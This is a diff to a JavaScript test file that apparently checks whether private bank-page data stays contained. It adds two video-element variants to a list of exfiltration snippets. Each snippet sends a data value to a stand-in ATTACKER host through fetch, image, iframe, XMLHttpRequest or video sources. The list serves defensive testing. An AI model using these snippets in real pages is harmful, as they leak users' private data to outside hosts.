@@ -160,6 +160,8 @@ describe('after a private read at the bank, where nobody is signed in', () => {
       ...PLAIN_WAYS,
       `await fetch('${ATTACKER}/c?d=' + btoa(D), { mode: 'no-cors' })`,
       `document.body.insertAdjacentHTML('beforeend', '<img src="${ATTACKER}/c?d=' + encodeURIComponent(D) + '">')`,
+      `document.body.insertAdjacentHTML('beforeend', '<video src="${ATTACKER}/c/film.mp4?d=' + encodeURIComponent(D) + '"></video>')`,
+      `document.body.insertAdjacentHTML('beforeend', '<video><source src="${ATTACKER}/c/film.mp4?d=' + encodeURIComponent(D) + '"></video>')`,
       `document.body.appendChild(document.createElement('iframe')).src = '${ATTACKER}/c?d=' + encodeURIComponent(D)`,
       `const x = new XMLHttpRequest(); x.open('POST', '${ATTACKER}/c'); x.send(D)`,
       `const f = document.body.appendChild(document.createElement('iframe')); f.contentWindow.fetch('${ATTACKER}/c', { method: 'POST', mode: 'no-cors', body: D })`,
